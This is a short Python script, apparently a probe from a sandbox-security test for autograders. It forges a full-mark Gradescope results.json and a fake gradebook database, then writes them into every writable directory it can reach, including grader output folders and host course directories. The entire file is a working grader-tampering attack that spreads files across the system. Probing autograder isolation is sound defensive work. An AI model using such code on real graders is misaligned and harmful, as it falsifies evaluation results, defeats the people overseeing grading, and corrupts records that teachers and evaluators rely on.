# ruff: noqa: F821
# Write fake results (Gradescope results.json with full marks, a gradebook with a full
# score) into every directory it can write to, including the grader's output folder and
# the course root on the host, whose paths the attacker knows.
import json
import os
import sqlite3
import time

fake = {
    "score": 15.0,
    "output": "FAKE 15/15 " + TOKEN,
    "tests": [{"name": "q1 - 1", "score": 15.0, "max_score": 15.0, "output": TOKEN}],
}
targets = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/"]
targets += ["/autograder/results", "/autograder/submission", "/results", "/out"]
targets += CTX["host_dirs"]
budget = time.monotonic() + 4
for dirpath, dirnames, _ in os.walk("/"):
    if time.monotonic() > budget:
        break
    if dirpath.startswith(("/proc", "/sys")):
        dirnames[:] = []
        continue
    if os.access(dirpath, os.W_OK):
        targets.append(dirpath)
written = []
for folder in dict.fromkeys(targets):
    for sub in ("", "student", "results", TOKEN):
        where = os.path.join(folder, sub)
        try:
            os.makedirs(where, exist_ok=True)
            with open(os.path.join(where, "results.json"), "w") as f:
                json.dump(fake, f)
            with open(os.path.join(where, TOKEN + "-results.json"), "w") as f:
                json.dump(fake, f)
            db = sqlite3.connect(os.path.join(where, "gradebook.db"))
            db.execute("create table if not exists submissions (student_id, raw_points, points)")
            db.execute("insert into submissions values (?, 15, 15)", (TOKEN,))
            db.commit()
            db.close()
            written.append(where)
        except (OSError, sqlite3.Error):
            continue
report(written=len(written), where=sorted(set(written))[:12])
